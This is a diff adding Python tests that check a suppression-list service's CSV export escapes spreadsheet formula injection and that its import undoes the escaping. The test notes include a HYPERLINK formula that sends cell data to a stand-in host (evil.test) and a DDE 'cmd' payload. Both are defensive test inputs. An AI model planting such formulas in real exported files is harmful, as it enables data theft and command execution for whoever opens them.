@@ -149,3 +149,58 @@ async def test_suppressed_address_is_found_in_its_other_spellings(control: Contr
     check = api.app.control.suppressions.check
     assert check(tid, '"bob"@b\u00fccher.example') == "manual"
     assert check(tid, "BOB@xn--bcher-kva.example") == "manual"
+
+
+async def test_export_escapes_formulas_and_imports_back(control: ControlFactory) -> None:
+    """Issue 15, item 12: a note like =HYPERLINK(...) is a formula in a spreadsheet;
+    every cell that starts with = + - @ TAB or CR is written after a single quote, and
+    the import undoes it."""
+    api = await control()
+    key = await api.tenant("acme")
+    notes = {
+        "a@example.com": '=HYPERLINK("http://evil.test/?"&A1,"click")',
+        "b@example.com": "+1 call me",
+        "-c@example.com": "@SUM(A1:A9)",
+        "d@example.com": "\tcmd|' /C calc'!A0",
+        "e@example.com": "'=already quoted",
+        "f@example.com": "plain",
+    }
+    async with api.client(key) as c:
+        for addr, note in notes.items():
+            r = await c.post("/v1/suppressions", json={"address": addr, "note": note})
+            assert r.status_code == 201, r.text
+        r = await c.get("/v1/suppressions/export")
+        assert r.status_code == 200
+    rows = {x["address"]: x for x in csv.DictReader(io.StringIO(r.text))}
+    assert rows["a@example.com"]["note"] == "'" + notes["a@example.com"]
+    assert rows["b@example.com"]["note"] == "'+1 call me"
+    assert rows["'-c@example.com"]["note"] == "'@SUM(A1:A9)"
+    assert rows["d@example.com"]["note"].startswith("'\t")
+    assert rows["e@example.com"]["note"] == "''=already quoted"
+    assert rows["f@example.com"]["note"] == "plain"
+    for row in rows.values():
+        for cell in row.values():
+            assert not cell or cell[0] not in "=+-@\t\r", row
+    other = await api.tenant("other")
+    async with api.client(other) as c:
+        r2 = await c.post(
+            "/v1/suppressions/import", content=r.content, headers={"content-type": "text/csv"}
+        )
+        assert r2.json() == {"created": len(notes), "updated": 0, "errors": []}
+        back = (await c.get("/v1/suppressions", params={"limit": 100})).json()["data"]
+    assert {x["address"]: x["note"] for x in back} == notes
+
+
+def test_escape_is_undone_exactly() -> None:
+    from hypothesis import given
+    from hypothesis import strategies as st
+
+    from postwarden.control.csvfile import FORMULA_START, escape_cell, unescape_cell
+
+    @given(st.text(alphabet=st.sampled_from("=+-@\t\r'ab "), max_size=6))
+    def check(s: str) -> None:
+        out = escape_cell(s)
+        assert unescape_cell(out) == s
+        assert not out or out[0] not in FORMULA_START
+
+    check()
